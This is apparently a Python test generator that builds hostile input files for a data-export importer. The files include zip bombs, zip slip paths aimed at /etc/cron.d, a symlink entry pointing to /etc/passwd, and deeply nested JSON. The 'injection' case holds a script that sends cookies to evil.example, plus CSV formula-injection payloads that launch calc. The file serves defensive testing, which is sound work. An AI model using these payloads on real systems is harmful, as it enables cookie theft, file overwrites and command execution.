"""Generates the hostile-input corpus: archives, broken structure, encodings, injection.

Run ``python -m tests.hostile.generate [DIR]`` to write it (default: tests/hostile/corpus,
which git ignores); the tests call :func:`generate` on a temporary folder. Nothing
binary is committed: every case is built here.
"""

from __future__ import annotations

import io
import stat
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

GOOD_CHAT = "01/02/2024, 10:00 - Ann: hello\n01/02/2024, 10:01 - Bo: hi Ann\n"

# File names that real formats claim, so garbage reaches their parsers.
CLAIMED_NAMES = (
    "_chat.txt", "result.json", "data/tweets.js", "Records.json", "outbox.json", "Download.CSV",
    "messages/inbox/x_1/message_1.json", "Timeline.json", "MyActivity.json",
    "BrowserHistory.json", "user_data.json", "posts.csv", "channels.json", "statement.ofx",
    "alipay_record_20240101.csv", "Connections.csv", "transactions.qif",
)  # fmt: skip


def _zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _high_ratio_bomb(path: Path, megabytes: int) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("_chat.txt", "w", force_zip64=True) as entry:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(megabytes):
                entry.write(chunk)
        archive.writestr("WhatsApp Chat with Ann.txt", GOOD_CHAT)


def _overlapping_bomb(path: Path) -> None:
    data = bytearray(_zip_bytes({"a.txt": b"A" * 1000, "b.txt": b"B" * 1000, "c.txt": b"C"}))
    offset = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 1)  # b.txt's record
    data[offset + 42 : offset + 46] = (0).to_bytes(4, "little")  # point it at a.txt's data
    path.write_bytes(bytes(data))


def _symlink_zip(path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("_chat.txt")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
        archive.writestr("WhatsApp Chat with Ann.txt", GOOD_CHAT)
    path.write_bytes(buffer.getvalue())


def _deep_json(levels: int) -> bytes:
    return b'{"messages": ' + b"[" * levels + b"]" * levels + b"}"


def _write(root: Path, relative: str, data: bytes) -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


CASES: dict[str, Callable[[Path], None]] = {}


def case(name: str) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    def register(build: Callable[[Path], None]) -> Callable[[Path], None]:
        CASES[name] = build
        return build

    return register


@case("zip_bomb_ratio")
def _(root: Path) -> None:
    _high_ratio_bomb(root / "bomb.zip", megabytes=64)


@case("zip_bomb_overlap")
def _(root: Path) -> None:
    _overlapping_bomb(root / "overlap.zip")


@case("zip_slip")
def _(root: Path) -> None:
    entries = {"../../../../tmp/footprint-slip.txt": b"x", "/etc/cron.d/evil": b"x",
               "WhatsApp Chat with Ann.txt": GOOD_CHAT.encode()}  # fmt: skip
    _write(root, "slip.zip", _zip_bytes(entries))


@case("zip_symlink")
def _(root: Path) -> None:
    _symlink_zip(root / "symlink.zip")


@case("zip_nested")
def _(root: Path) -> None:
    inner = _zip_bytes({"_chat.txt": GOOD_CHAT.encode()})
    _write(root, "nested.zip", _zip_bytes({"inner.zip": inner, "deeper/more.zip": inner}))


@case("deep_json")
def _(root: Path) -> None:
    for name in ("result.json", "Records.json", "outbox.json", "message_1.json"):
        _write(root, f"deep/{name}", _deep_json(100_000))


@case("huge_integers")
def _(root: Path) -> None:
    digits = b"9" * 100_000
    _write(root, "huge/result.json",
           b'{"messages": [{"id": ' + digits + b', "type": "message", "date_unixtime": "'
           + digits + b'", "from": "Ann", "text": "hi"}]}')  # fmt: skip
    _write(root, "huge/Records.json",
           b'{"locations": [{"latitudeE7": ' + digits + b', "longitudeE7": 1, "timestampMs": "'
           + digits + b'"}]}')  # fmt: skip


@case("long_line")
def _(root: Path) -> None:
    # Named like a chat so a parser really reads it; size set by FOOTPRINT_HOSTILE_LINE_MB.
    import os

    megabytes = int(os.environ.get("FOOTPRINT_HOSTILE_LINE_MB", "24"))
    path = root / "longline" / "_chat.txt"
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as stream:
        stream.write(b"01/02/2024, 10:00 - Ann: ")
        chunk = b"a" * (1024 * 1024)
        for _ in range(megabytes):
            stream.write(chunk)
    _write(root, "longline/Download.CSV", b'"Date","Name","Gross"\r\n"' + b"x" * (3 << 20))


@case("truncated")
def _(root: Path) -> None:
    full = _zip_bytes({"WhatsApp Chat with Ann.txt": GOOD_CHAT.encode() * 50})
    _write(root, "truncated/cut.zip", full[: len(full) // 2])
    _write(root, "truncated/result.json", b'{"name": "Ann", "messages": [{"id": 1, "type": "mes')
    _write(root, "truncated/Download.CSV", b'"Date","Time","Name","Gross"\r\n"01/02/2024","10:0')
    _write(root, "truncated/data/tweets.js", b'window.YTD.tweets.part0 = [{"tweet": {"full_te')


@case("empty_files")
def _(root: Path) -> None:
    for name in CLAIMED_NAMES:
        _write(root, f"empty/{name}", b"")


@case("binary_garbage")
def _(root: Path) -> None:
    import random

    rng = random.Random(1234)
    for name in CLAIMED_NAMES:
        _write(root, f"garbage/{name}", bytes(rng.getrandbits(8) for _ in range(4096)))


@case("encodings")
def _(root: Path) -> None:
    chat = "01/02/2024, 10:00 - Jørgen: 你好 Ann\n01/02/2024, 10:01 - Ann: hej Jørgen\n"
    _write(root, "encodings/WhatsApp Chat with Jørgen (utf-16).txt", chat.encode("utf-16"))
    _write(root, "encodings/WhatsApp Chat with Jørgen (utf-8-sig).txt", chat.encode("utf-8-sig"))
    _write(root, "encodings/WhatsApp Chat with Jørgen (utf-16-be).txt",
           b"\xfe\xff" + chat.encode("utf-16-be"))  # fmt: skip
    paypal = '"Date","Time","TimeZone","Name","Type","Status","Currency","Gross"\r\n'
    paypal += '"01/02/2024","10:00:00","GMT","Jørgen Ås","Payment","Completed","EUR","-5.00"\r\n'
    _write(root, "encodings/Download.CSV", paypal.encode("utf-16"))


@case("injection")
def _(root: Path) -> None:
    chat = (
        "01/02/2024, 10:00 - Mallory: <script>fetch('https://evil.example/?c='+document.cookie)"
        "</script>\n"
        "01/02/2024, 10:01 - Mallory: ![pixel](https://tracker.example/p.png?u=ann)\n"
        '01/02/2024, 10:02 - Mallory: <img src="https://tracker.example/i.gif" onerror=alert(1)>\n'
    )
    _write(root, "injection/WhatsApp Chat with Mallory.txt", chat.encode())
    paypal = '"Date","Time","TimeZone","Name","Type","Status","Currency","Gross"\r\n'
    paypal += '"01/02/2024","10:00:00","GMT","=HYPERLINK(""https://evil.example"",""x"")",'
    paypal += '"Payment","Completed","EUR","-5.00"\r\n'
    paypal += '"02/02/2024","10:00:00","GMT","@SUM(1+1)*cmd|\' /C calc\'!A0","Payment",'
    paypal += '"Completed","EUR","-1.00"\r\n'
    _write(root, "injection/Download.CSV", paypal.encode())


def generate(root: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the chosen cases (default: all) under ``root``; returns case -> its folder."""
    folders = {}
    for name in names or list(CASES):
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        CASES[name](folder)
        _write(folder, "WhatsApp Chat with Good Friend.txt", GOOD_CHAT.encode())
        folders[name] = folder
    return folders


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "corpus"
    for name, folder in generate(target).items():
        print(f"{name}: {folder}")
